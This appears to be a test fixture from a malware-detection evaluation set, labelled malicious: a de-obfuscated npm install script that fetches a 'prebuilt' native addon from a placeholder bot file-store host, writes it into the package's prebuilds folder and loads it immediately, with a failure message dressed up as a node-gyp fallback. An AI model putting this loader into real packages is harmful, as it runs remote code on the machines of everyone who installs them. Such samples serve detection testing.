// expect: malicious
// source: blind set 50's crc32c-prebuilt (telegram-bot-file-stager), de-obfuscated: the install script fetches a
// "prebuilt binary" from a bot's file store, writes it into the package's own prebuilds directory and requires it at
// once (its exported function runs in the installing process). Nothing is written to the temporary directory.
'use strict';
const https = require('https');
const fs = require('fs');
const path = require('path');

function get(route) {
  return new Promise((resolve, reject) => {
    https.get({ host: 'files.bot-store.invalid', path: route }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => (res.statusCode === 200 ? resolve(Buffer.concat(chunks)) : reject(new Error('HTTP ' + res.statusCode))));
    }).on('error', reject);
  });
}

(async () => {
  const target = process.platform + '-' + process.arch;
  const body = await get('/file/botFAKE/prebuilt/' + target);
  const dir = path.join(__dirname, 'prebuilds', target);
  fs.mkdirSync(dir, { recursive: true });
  const addon = path.join(dir, 'crc32c.node');
  fs.writeFileSync(addon, body);
  require(addon).calculate(Buffer.from('123456789'));
})().catch((e) => { console.error('no prebuild, falling back to node-gyp: ' + e.message); process.exit(1); });
